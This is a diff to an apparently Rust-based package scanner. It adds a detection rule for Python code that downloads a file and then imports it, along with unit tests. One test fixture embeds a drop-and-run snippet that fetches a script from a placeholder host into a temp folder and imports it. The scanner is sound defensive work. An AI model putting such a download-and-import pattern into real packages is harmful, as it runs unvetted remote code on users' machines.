@@ -541,6 +541,16 @@ impl Analyzer {
             if let Some((_, line, scope, snip)) = same(&facts.download_to_file) {
                 let msg = "downloads a file and runs a program".to_string();
                 findings_extra.push(raw("DL-WRITE-EXEC", path, line, &snip, msg, Some(scope)));
+            } else if let Some((_, line, scope, snip)) =
+                facts.download_to_file.iter().find(|(fid, line, ..)| {
+                    facts
+                        .load_code
+                        .iter()
+                        .any(|(g, at, ..)| g == fid && at >= line)
+                })
+            {
+                let msg = "downloads a file and loads code from where it wrote it".to_string();
+                findings_extra.push(raw("DL-WRITE-EXEC", path, *line, snip, msg, Some(*scope)));
             }
             // A remote repository cloned, then a script started after it in the same function.
             // Not while installing: some sdists clone a dependency and run its generator to
@@ -1672,6 +1682,29 @@ mod tests {
             )
             .is_none()
         );
+    }
+
+    #[test]
+    fn a_download_then_imported_is_drop_and_run() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let src = |then: &str| {
+            format!(
+                "import sys, os, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('http://x.test/u.py', os.path.join(d, 'u.py'))\n{then}\n"
+            )
+        };
+        let files = [pf(
+            "p-1/p/__init__.py",
+            &src("sys.path.insert(0, d)\nimport u"),
+        )];
+        assert!(hit(&a, &files, "DL-WRITE-EXEC").is_some());
+        // A setup script putting its own folder on the path, with no download, is not.
+        let setup = [pf(
+            "p-1/setup.py",
+            "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))\nimport version\n",
+        )];
+        assert!(hit(&a, &setup, "DL-WRITE-EXEC").is_none());
+        let only = [pf("p-1/p/__init__.py", &src("print(d)"))];
+        assert!(hit(&a, &only, "DL-WRITE-EXEC").is_none());
     }
 
     #[test]
